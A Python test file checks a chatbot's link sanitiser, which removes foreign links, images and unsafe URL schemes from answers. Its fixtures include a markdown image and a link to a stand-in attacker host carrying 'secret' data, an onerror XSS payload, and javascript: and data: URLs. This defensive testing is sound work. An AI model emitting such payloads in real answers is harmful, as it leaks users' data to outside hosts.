"""Only a cited source's own http(s) URL may appear as a link in an answer."""

from bot.agent.links import safe_url, strip_foreign_links

OWN = "https://www.ofcom.org.uk/research"


def test_images_and_foreign_links_are_removed_and_own_links_kept():
    text = (
        "Read the report [here](https://www.ofcom.org.uk/research). "
        "![pixel](https://evil.example/p.png?q=secret) "
        "See [this](https://evil.example/steal?d=1) and https://evil.example/x. "
        "<img src=x onerror=alert(1)> Also javascript:alert(1) and data:text/html,hi."
    )
    out = strip_foreign_links(text, [OWN, None])
    assert "[here](https://www.ofcom.org.uk/research)" in out
    assert "evil.example" not in out and "<img" not in out and "javascript:" not in out and "data:" not in out
    assert "See this and [link removed]." in out


def test_only_http_and_https_urls_are_safe():
    assert safe_url(OWN) == OWN
    for bad in ("javascript:alert(1)", "data:text/html,x", "ftp://x.org/a", "https://x.org/a b", None, ""):
        assert safe_url(bad) is None
